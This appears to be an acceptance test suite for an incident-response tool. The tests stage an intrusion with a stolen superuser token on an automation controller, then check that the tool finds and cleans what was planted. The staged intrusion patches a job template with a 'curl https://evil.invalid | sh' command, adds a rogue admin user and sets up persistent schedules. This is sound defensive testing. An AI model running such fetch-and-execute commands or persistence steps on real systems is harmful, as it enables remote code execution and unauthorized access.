import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Investigation } from '../../../src/domain/investigation/investigation.ts';
import { type Home, homeOf } from '../home.ts';
import type { Installation } from '../installation.ts';
import { CONTROLLER, DATABASE, REAL_CONTROLLER } from '../needs.ts';
import { type Account, asUser, makeUser } from '../own-objects.ts';
import { type As, expectStatus } from '../requests.ts';
import { LeftOut } from '../runner.ts';
import type { AcceptanceSuite } from '../scene.ts';

/** What the intruder planted, as the ids of items, and what it took to plant it. */
interface Intrusion {
  readonly token: number;
  readonly account: Account;
  readonly template: number;
  readonly second: Account;
  readonly role: number;
  readonly planted: readonly string[];
}

/** As the superuser left the template: the limit and the description are its own. */
const BY_ADMIN = {
  extra_vars: '{"region": "east"}',
  limit: 'web',
  become_enabled: false,
  description: 'by admin',
};

async function send(it: Installation, as: As, method: 'POST' | 'PATCH', path: string, body: object) {
  const answer = expectStatus(await it.request(path, as, { method, body }), 200, 201, 204);
  return { ...answer.body, id: Number(answer.body['id']) } as Readonly<Record<string, unknown>> & {
    readonly id: number;
  };
}

/** A job template of the run's own, with the project and the playbook of one that is there, and an inventory of the run's own. */
async function makeTemplate(it: Installation, own: string): Promise<{ template: number; inventory: number }> {
  const [known] = await it.all('job_templates/?project__isnull=false&order_by=id');
  if (known === undefined)
    throw new LeftOut('there is no job template whose project and playbook it could use');
  const { project, playbook } = known;
  const inventory = await it.create('inventories/', { name: it.name(own), organization: it.organization });
  const template = await it.create('job_templates/', {
    ...{ name: it.name(own), job_type: 'run', inventory: inventory.id, project, playbook },
    extra_vars: BY_ADMIN.extra_vars,
  });
  return { template: template.id, inventory: inventory.id };
}

/** A stolen write token of a superuser, what an intruder does with it, and ordinary work of others on the same objects. */
async function intrude(it: Installation, own: string): Promise<Intrusion> {
  const { template, inventory } = await makeTemplate(it, own);
  const account = await makeUser(it, own, { is_superuser: true });
  const body = { scope: 'write', description: it.name(own) };
  const stolen = await send(it, asUser(account), 'POST', 'tokens/', body);
  const token = it.keep(String(stolen['token']));
  const intruder = (method: 'POST' | 'PATCH', path: string, sent: object) =>
    send(it, { token }, method, path, sent);
  const application = await intruder('POST', 'applications/', {
    ...{ name: it.name(`sync-of-${own}`), organization: it.organization, client_type: 'confidential' },
    authorization_grant_type: 'password',
  });
  it.keep(String(application['client_secret']));
  const [name, password] = [it.name(`${own}2`), it.keep(`Pw-${Math.random().toString(36).slice(2)}-9A`)];
  const made = await intruder('POST', 'users/', { username: name, password });
  const second = { id: made.id, name, password };
  const organization = expectStatus(await it.request(`organizations/${it.organization}/`, it.admin), 200);
  const { object_roles: roles } = organization.body['summary_fields'] as {
    object_roles: { admin_role: { id: number } };
  };
  await intruder('POST', `users/${second.id}/roles/`, { id: roles.admin_role.id });
  await intruder('PATCH', `job_templates/${template}/`, {
    ...{ extra_vars: '{"cmd": "curl https://evil.invalid | sh"}', limit: 'all', become_enabled: true },
  });
  const planted = [
    ...[`o_auth2_access_token:${stolen.id}`, `o_auth2_application:${application.id}`, `user:${second.id}`],
    ...[`role:${roles.admin_role.id}:user:${second.id}`, `job_template:${template}`],
  ];
  const rrule = 'DTSTART:20300101T000000Z RRULE:FREQ=DAILY;INTERVAL=1';
  const schedules = `job_templates/${template}/schedules/`;
  // The bundled service has no schedules.
  if (it.isRealController) {
    const schedule = await intruder('POST', schedules, { name: it.name(`nightly-of-${own}`), rrule });
    await send(it, it.admin, 'POST', schedules, { name: it.name(`beside-${own}`), rrule });
    planted.push(`schedule:${schedule.id}`);
  }
  // The second user goes on with a token of its own.
  const third = await send(it, asUser(second), 'POST', 'tokens/', {
    scope: 'write',
    description: it.name(own),
  });
  const asSecond = { token: it.keep(String(third['token'])) };
  const host = await send(it, asSecond, 'POST', 'hosts/', { name: it.name(`host-of-${own}`), inventory });
  planted.push(`o_auth2_access_token:${third.id}`, `host:${host.id}`);
  // Ordinary work on the same objects.
  const { limit, description } = BY_ADMIN;
  await send(it, it.admin, 'PATCH', `job_templates/${template}/`, { limit, description });
  await send(it, it.admin, 'POST', 'hosts/', { name: it.name(`own-host-${own}`), inventory });
  return { token: stolen.id, account, template, second, role: roles.admin_role.id, planted: planted.sort() };
}

async function investigation(home: Home, ...args: string[]): Promise<Investigation> {
  const { code, body, stderr } = await home.json<Investigation>(
    ...['incident', 'investigate', '--since', '1d', ...args],
  );
  assert.ok(code === 0 || code === 5, `exit ${code}: ${stderr}${JSON.stringify(body).slice(0, 500)}`);
  return body;
}

/** What remains of an intrusion, without what the installation only calls other. */
function remaining({ items }: Investigation): readonly string[] {
  return items
    .filter(({ state, group }) => group !== 'other' && ['there', 'running', 'unknown'].includes(state))
    .map(({ id }) => id)
    .sort();
}

async function templateOf(it: Installation, id: number): Promise<object> {
  const { body } = expectStatus(await it.request(`job_templates/${id}/`, it.admin), 200);
  const { extra_vars, limit, become_enabled, description } = body;
  return { extra_vars, limit, become_enabled, description };
}

/** Cleans what an investigation found, in one way, and investigates again. */
async function cleanUp(it: Installation, current: 'rest' | 'db'): Promise<string> {
  const home = homeOf(it, { current, paired: it.database !== null });
  const { token, account, template, planted } = await intrude(it, `intruder-${current}`);
  const saved = join(home.folder, 'investigation.json');
  const found = await investigation(home, '--token', String(token), '--out', saved);
  assert.deepEqual(remaining(found), planted);
  assert.equal(found.chain[0]?.user.username, account.name);
  const clean = ['incident', 'clean', '--from', saved];
  const dry = await home.json<{ result: unknown }>(...clean, '--dry-run');
  assert.deepEqual([dry.code, dry.body.result], [0, null], dry.stderr);
  const done = await home.json<{ result: unknown; left: unknown }>(...clean, '--yes', '--irreversible');
  assert.deepEqual([done.code, done.body.result, done.body.left], [0, 'done', []], done.stderr);
  assert.deepEqual(await templateOf(it, template), BY_ADMIN);
  assert.deepEqual(remaining(await investigation(home, '--user', account.name)), []);
  const again = await home.json<{ plan: { clean: unknown[] } }>(...clean, '--yes', '--irreversible');
  assert.deepEqual([again.code, again.body.plan.clean], [0, []]);
  return `${planted.length} planted objects were found and cleaned.`;
}

/** Kills a cleaning on its way, and finishes it. */
async function killCleaning(it: Installation): Promise<void> {
  const home = homeOf(it);
  const { token, template } = await intrude(it, 'killed');
  const saved = join(home.folder, 'investigation.json');
  await investigation(home, '--token', String(token), '--out', saved);
  const clean = ['incident', 'clean', '--from', saved, '--yes', '--irreversible'];
  const first = home.start(...clean);
  const log = join(home.folder, '.local/state/tokenctl/audit.jsonl');
  const lines = () => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []);
  const until = Date.now() + 60_000;
  while (lines().length < 4 && Date.now() < until) await sleep(5);
  first.kill('SIGKILL');
  await first.ended;
  const second = await home.json<{ left: unknown }>(...clean);
  assert.deepEqual([second.code, second.body.left], [0, []], second.stderr);
  assert.deepEqual(remaining(await investigation(home, '--token', String(token))), []);
  assert.deepEqual(await templateOf(it, template), BY_ADMIN);
  const entries = lines().map((line) => JSON.parse(line) as { kind: string; seq: number; closes?: number });
  const closed = new Set(entries.map(({ closes }) => closes));
  assert.deepEqual(
    entries.filter(({ kind, seq }) => kind === 'intent' && !closed.has(seq)),
    [],
  );
}

/** What an intruder left, found and cleaned. */
export const investigations: AcceptanceSuite = {
  name: 'Investigations',
  needs: [CONTROLLER],
  scenarios: [
    {
      name: 'find what was planted and nothing of others, and clean it, over REST',
      run: (it) => cleanUp(it, 'rest'),
    },
    {
      name: 'find the same in the database',
      needs: [DATABASE],
      run: async (it) => {
        const { token, planted } = await intrude(it, 'in-database');
        const found = await investigation(homeOf(it, { current: 'db' }), '--token', String(token));
        assert.deepEqual(remaining(found), planted);
      },
    },
    {
      name: 'find what was planted and nothing of others, and clean it, in the database',
      needs: [DATABASE, REAL_CONTROLLER],
      run: (it) => cleanUp(it, 'db'),
    },
    { name: 'a cleaning that was killed is finished by the next one', run: killCleaning },
    {
      name: 'follow a user who was deleted and made again',
      run: async (it) => {
        const home = homeOf(it);
        const account = await makeUser(it, 'returning', { is_superuser: true });
        const name = it.name('returned');
        const make = async () =>
          (await send(it, asUser(account), 'POST', 'users/', { username: name, password: account.password }))
            .id;
        const first = await make();
        expectStatus(await it.request(`users/${first}/`, asUser(account), { method: 'DELETE' }), 204);
        const second = await make();
        assert.deepEqual(remaining(await investigation(home, '--user', account.name)), [`user:${second}`]);
      },
    },
  ],
};
